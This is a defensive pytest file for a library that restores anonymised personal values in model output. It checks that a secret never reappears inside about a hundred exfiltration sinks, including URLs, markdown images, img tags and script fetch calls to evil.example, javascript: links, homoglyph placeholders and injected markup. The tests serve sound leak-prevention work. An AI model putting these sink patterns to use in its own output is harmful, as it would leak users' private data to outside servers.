"""An adversary bot plays every sink in every form: no value may leave with it."""

from __future__ import annotations

import json

import pytest

from guardrail.core.restore import Restorer, restore, restored
from guardrail.core.vault import Vault
from guardrail.types import Markup, Placed, RawText

SECRET = "s3cr3t-Smith"

# "@" is the placeholder. Each of these would carry a value to somebody else's server, or run it.
SINKS = {
    "url path": "https://evil.example/@",
    "url query": "see https://evil.example/?q=@ now",
    "url second parameter": "https://evil.example/?a=1&q=@&b=2",
    "url fragment": "http://evil.example/#@",
    "url user": "https://@.evil.example/",
    "url userinfo": "https://@@evil.example/",
    "url upper case": "HTTPS://EVIL.EXAMPLE/@",
    "url after punctuation": "(https://evil.example/@)",
    "url in quotes": '"https://evil.example/@"',
    "url after bracket": "https://evil.example/(@",
    "url after chinese": "請看https://evil.example/@",
    "url across chinese punctuation": "https://evil.example/？q=@",
    "url with entities": "https&#58;&#47;&#47;evil.example&#47;@",
    "url with named entities": "https&colon;&sol;&sol;evil.example&sol;@",
    "url with escaped slashes": "https:\\/\\/evil.example\\/@",
    "url with backslashes": "https:\\\\evil.example\\@",
    "url very long": "https://evil.example/" + "x" * 5000 + "@",
    "protocol relative": "//evil.example/@",
    "single label host": "//evil/@",
    "other scheme": "ftp://evil.example/@",
    "websocket": "wss://evil.example/@",
    "mailto": "mailto:@",
    "mailto subject": "mailto:x&commat;evil.example?subject=@",
    "tel": "tel:+1555,,@",
    "sms": "sms:+1555?body=@",
    "javascript": "javascript:alert('@')",
    "data": "data:text/html,@",
    "line app": "line:msg/text/@",
    "whatsapp": "whatsapp:send?text=@",
    "www": "www.evil.example/@",
    "www host": "www.@",
    "bare domain path": "evil.example/@",
    "bare domain query": "evil.example?q=@",
    "bare domain fragment": "evil.example#@",
    "bare domain port": "evil.example:8080/@",
    "bare ip": "10.0.0.1/@",
    "idn domain": "例え.テスト/@",
    "subdomain": "@.evil.example/x",
    "subdomain upper case": "@.Evil.Example",
    "subdomain glued": "@-x.evil.example",
    "subdomain digits": "@.1.evil.example",
    "subdomain idn": "@.例え.jp",
    "subdomain entity dot": "@&#46;evil.example",
    "subdomain escaped dot": "@\\.evil.example",
    "mail host": "@@evil.example",
    "after another placeholder": "https://evil.example/<UNKNOWN_1>@",
    "inline link": "[click](https://evil.example/?q=@)",
    "inline link relative": "[click](/track?q=@)",
    "inline link angle": "[click](</track q=@>)",
    "inline link angle with parenthesis": "[click](<a) @>)",
    "inline link title": '[click](/x "title ) @")',
    "inline link title single": "[click](/x 'title ) @')",
    "inline link parentheses": "[click](/a(b)c @)",
    "inline link escaped parenthesis": "[click](/a\\) @)",
    "inline link next line": "[click](\n/track?q=@)",
    "image": "![x](https://evil.example/@.png)",
    "image relative": "![x](@)",
    "image in link": "[![x](/a.png)](/track/@)",
    "reference definition": "[a]: https://evil.example/@",
    "reference definition relative": "[a]: /track/@",
    "reference definition angle": "[a]: </track @>",
    "reference definition bare": "[a]: @",
    "reference definition next line": "[a]:\n/track/@",
    "reference definition in quote": "> [a]: /track/@",
    "footnote as definition": "[^1]: /track/@",
    "autolink": "<https://evil.example/@>",
    "autolink mail": "<mailto:@>",
    "img": '<img src="https://evil.example/@">',
    "img after space": '<img src="https://evil.example/ @">',
    "img unquoted": "<img src=/track/@>",
    "img quote with bracket": '<img alt=">" src="@">',
    "img single quotes": "<img alt='>' src='@'>",
    "img new lines": '<img\nsrc="\n@">',
    "a href": "<a href='/track/@'>x</a>",
    "style attribute": '<p style="background:url(/t @)">',
    "event attribute": '<p onclick="f(1, @)">',
    "attribute name": "<p @=1>",
    "tag name": "<@>",
    "after angle": "<@ src=x>",
    "closing tag": "</@>",
    "form value": '<input name=a value="@">',
    "textarea": "<textarea name=a>\n@</textarea>",
    "script": "<script>let u = 1; fetch(u + '@')</script>",
    "script after lesser": "<script>if (a<b) c( '@')</script>",
    "style": "<style>p { background: url( @ ) }</style>",
    "iframe": "<iframe src='/t?@'></iframe>",
    "svg": "<svg><text> @</text></svg>",
    "comment": "<!-- > @ -->",
    "doctype": "<!DOCTYPE x @>",
    "processing": "<?xml @ ?>",
    "cdata": "<![CDATA[ @ ]]>",
    "speech audio": '<audio src="/t/@"/>',
    "inline code": "`@`",
    "inline code in words": "run `echo @ now` please",
    "inline code double": "``a ` @``",
    "fenced code": "```\n@\n```",
    "fenced code with language": "text\n```sh\necho\n\n@\n```\n",
    "fenced code tildes": "~~~\n@\n~~~",
    "fenced code in list": "- ```\n  @\n  ```",
    "fenced code never closed": "```\na\n\n@",
    "longer fence": "````\n```\n@\n````",
}
FORMS = {
    "plain": "<PERSON_1>",
    "lower": "<person_1>",
    "markdown": "<PERSON\\_1>",
    "html": "&lt;PERSON_1&gt;",
    "json": "\\u003cPERSON_1\\u003e",
}
CASES = [
    pytest.param(template, form, id=f"{sink}-{name}")
    for sink, template in SINKS.items()
    for name, form in FORMS.items()
]  # fmt: skip


def vault() -> Vault:
    values = {"<PERSON_1>": SECRET, "<PERSON_2>": "Ann & Bob", "<URL_1>": "https://mine.example/"}
    return Vault(
        [
            Placed(placeholder=name, value=RawText(value), entity_type=name[1:-3], subject_id="s")
            for name, value in values.items()
        ]
    )


def test_the_table_is_large_enough() -> None:
    assert len(CASES) * len(Markup) >= 1000


@pytest.mark.parametrize("markup", [Markup.PLAIN, Markup.MARKDOWN, Markup.HTML])
@pytest.mark.parametrize(("template", "form"), CASES)
def test_nothing_returns_into_a_sink(template: str, form: str, markup: Markup) -> None:
    text = template.replace("@", form, 1)
    restorer = Restorer(vault(), markup, True)
    streamed = "".join(map(restorer.feed, text)) + restorer.finish()
    assert SECRET not in streamed
    assert streamed == restore(text, vault(), markup, True)


@pytest.mark.parametrize(("template", "form"), CASES)
def test_nothing_returns_into_a_sink_within_json(template: str, form: str) -> None:
    text = json.dumps({"a": "x", "text": template.replace("@", form, 1)})
    assert SECRET not in restore(text, vault(), Markup.JSON, True)


SAFE = [
    ("Hello @, welcome.", "Hello {}, welcome."),
    ("@", "{}"),
    ("Dear @.", "Dear {}."),
    ("Dear @.\nYours", "Dear {}.\nYours"),
    ("Is it @?", "Is it {}?"),
    ("@'s order", "{}'s order"),
    ("您好@，謝謝", "您好{}，謝謝"),
    ("**@**", "**{}**"),
    ("- @\n- x", "- {}\n- x"),
    ("(@)", "({})"),
    ("a < b, @", "a < b, {}"),
    ("<p>Hi @</p>", "<p>Hi {}</p>"),
    ("<br/>@", "<br/>{}"),
    ("[our site](https://x.example/) @", "[our site](https://x.example/) {}"),
    ("https://x.example/ @", "https://x.example/ {}"),
    ("see `code` and @", "see `code` and {}"),
    ("it`s \n\n@", "it`s \n\n{}"),
    ("```\ncode\n```\n@", "```\ncode\n```\n{}"),
    ("<script>x</script>@", "<script>x</script>{}"),
    ("<!-- a > b -->@", "<!-- a > b -->{}"),
    ("[a]: /x\n\n@", "[a]: /x\n\n{}"),
    ("Name:@", "Name:{}"),
    ("Tel:@ , LINE:@", "Tel:{} , LINE:{}"),
    ("![@](/x.png)", "![{}](/x.png)"),
    ("v1.2 and/or @", "v1.2 and/or {}"),
    ("@, @", "{}, {}"),
    ("<<@", "<<@"),
]


@pytest.mark.parametrize("markup", [Markup.PLAIN, Markup.MARKDOWN, Markup.HTML])
@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
@pytest.mark.parametrize(("template", "expected"), SAFE)
def test_values_return_into_ordinary_text(template: str, expected: str, form: str, markup: Markup) -> None:
    if template == "<<@":
        assert SECRET not in restore("<" + form, vault(), markup, True)
        return
    shown, put = restored(template.replace("@", form), vault(), markup, True)
    assert shown == expected.replace("{}", SECRET)
    assert put == {"<PERSON_1>"}


@pytest.mark.parametrize(
    "text",
    [
        "＜PERSON_1＞",
        "<РERSON_1>",
        "<PERSON_１>",
        "<ſPERSON_1>",
        "<PERSON_01>",
        "< PERSON_1>",
        "<PERSON_1 >",
        "<PER SON_1>",
        "<PERSON-1>",
        "<PERSON_\u200b1>",
        "<PER<b></b>SON_1>",
        "&#60;PERSON_1&#62;",
        "%3CPERSON_1%3E",
        "PERSON_1",
        "[PERSON_1]",
        "{PERSON_1}",
        "\\\\u003cPERSON_1\\u003e",
        "<PERSON_1&gt;",
        "&lt;PERSON_1>",
        "<PERSON\\\\\\_1>",
        "\\x3cPERSON_1\\x3e",
    ],
)
@pytest.mark.parametrize("markup", list(Markup))
def test_unlisted_forms_are_not_restored(text: str, markup: Markup) -> None:
    for written in (text, json.dumps(text)):
        if written.startswith('"') and text.startswith("\\\\u"):
            continue  # quoted once more it is another text
        assert SECRET not in restore(written, vault(), markup, True)


@pytest.mark.parametrize("number", [*range(3, 60), 999_999])
def test_guessed_numbers_give_nothing(number: int) -> None:
    text = f"<PERSON_{number}> <EMAIL_ADDRESS_{number}>"
    assert restored(text, vault(), Markup.PLAIN, True) == (text, frozenset())


def test_a_persons_own_link_takes_no_other_value_along() -> None:
    assert restore("<URL_1>?q=<PERSON_1>", vault(), Markup.PLAIN, True) == "https://mine.example/?q=<PERSON_1>"
    assert restore("<URL_1> <PERSON_1>", vault(), Markup.PLAIN, True) == f"https://mine.example/ {SECRET}"


@pytest.mark.parametrize(
    ("markup", "text", "shown"),
    [
        (Markup.PLAIN, "<P_1>", "</b><a href=x>[x](javascript:1)"),
        (Markup.PLAIN, "&lt;P_1&gt;", "&lt;/b&gt;&lt;a href=x&gt;[x](javascript:1)"),
        (Markup.HTML, "<P_1>", "&lt;/b&gt;&lt;a href=x&gt;[x](javascript:1)"),
        (Markup.MARKDOWN, "<P_1>", "&lt;/b&gt;&lt;a href=x&gt;\\[x\\](javascript:1)"),
        (Markup.JSON, '"<P_1>"', '"</b><a href=x>[x](javascript:1)"'),
        (Markup.PLAIN, "<Q_1>", 'a"b\\c\nd'),
        (Markup.JSON, '{"k":"<Q_1>"}', '{"k":"a\\"b\\\\c\\nd"}'),
        (Markup.JSON, '{"k":<Q_1>}', '{"k":<Q_1>}'),
        (Markup.JSON, '{"k":"{\\"i\\":\\"<Q_1>\\"}"}', '{"k":"{\\"i\\":\\"a\\\\\\"b\\\\\\\\c\\\\nd\\"}"}'),
        (Markup.PLAIN, "\\u003cQ_1\\u003e", 'a\\"b\\\\c\\nd'),
        (Markup.HTML, "<Q_1>", "a&quot;b\\c\nd"),
        (Markup.MARKDOWN, "[x]<R_1>", "[x]\\(javascript:1)"),
        (Markup.MARKDOWN, "<S_1>", "\\# x\n\\- y\n1\\. z"),
        (Markup.MARKDOWN, "a <T_1>", "a AT&T &amp;lt; john_doe \\_x\\_"),
    ],
)
def test_values_are_escaped_for_their_place(markup: Markup, text: str, shown: str) -> None:
    values = {
        "<P_1>": "</b><a href=x>[x](javascript:1)",
        "<Q_1>": 'a"b\\c\nd',
        "<R_1>": "(javascript:1)",
        "<S_1>": "# x\n- y\n1. z",
        "<T_1>": "AT&T &lt; john_doe _x_",
    }
    held = Vault(
        [Placed(placeholder=k, value=RawText(v), entity_type=k[1:2], subject_id="s") for k, v in values.items()]
    )
    assert restore(text, held, markup, True) == shown


def test_an_erasure_during_a_stream_stops_its_values() -> None:
    live = vault()
    restorer = Restorer(live, Markup.PLAIN, True)
    before = restorer.feed("Hello <PERSON_1> and ")
    live.forget("s")
    assert before + restorer.feed("again <PERSON_1> ") + restorer.finish() == f"Hello {SECRET} and again <PERSON_1> "


def test_ordinary_prose_is_shown_at_once() -> None:
    restorer = Restorer(vault(), Markup.MARKDOWN, True)
    chunks = ["Hello", " there", ", how", " are", " you", "?", " 您好", "。"]
    assert [restorer.feed(chunk) for chunk in chunks] == chunks
